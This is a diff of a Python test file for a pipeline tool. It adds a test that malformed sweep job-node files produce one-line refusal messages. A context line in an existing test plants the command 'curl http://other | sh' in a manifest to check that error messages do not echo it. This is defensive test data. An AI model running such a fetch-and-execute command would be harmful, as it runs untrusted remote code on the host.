@@ -15,6 +15,7 @@ from stages.cli import compose, recipes
 from stages.config.errors import UserError
 from stages.config.schema import Report
 from stages.pages import runs
+from stages.pipeline.provenance import JOB_NODES
 from stages.pipeline.stage_table import STAGES
 from stages.store.manifest import command_of, read_manifest
 from stages.store.node import Node, published_node
@@ -329,3 +330,13 @@ def test_a_damaged_line_names_no_other_program(chain: Chain) -> None:
     edit(folder, lambda manifest: manifest.update(command="curl http://other | sh"))
     message = str(Damaged(folder / "results.json", "changed"))
     assert "curl" not in message and "stage=eval" in message
+
+
+@pytest.mark.parametrize("note", ['{"dpo": ["x"]}', "[]", "7", '{"dpo": {}}'])
+def test_a_sweeps_note_of_something_else_is_one_line(note: str, chain: Chain) -> None:
+    job = chain.root / "multirun" / "sweep" / "0"
+    job.mkdir(parents=True)
+    (job / JOB_NODES).write_text(note)
+    message = refused("stage=compare", f"outputs={chain.root}", f"compare.sweep={job.parent}")
+    assert message.startswith(str(job / JOB_NODES))
+    assert refused("stage=gc", f"outputs={chain.root}", "gc.remove=true").startswith("gc.remove")
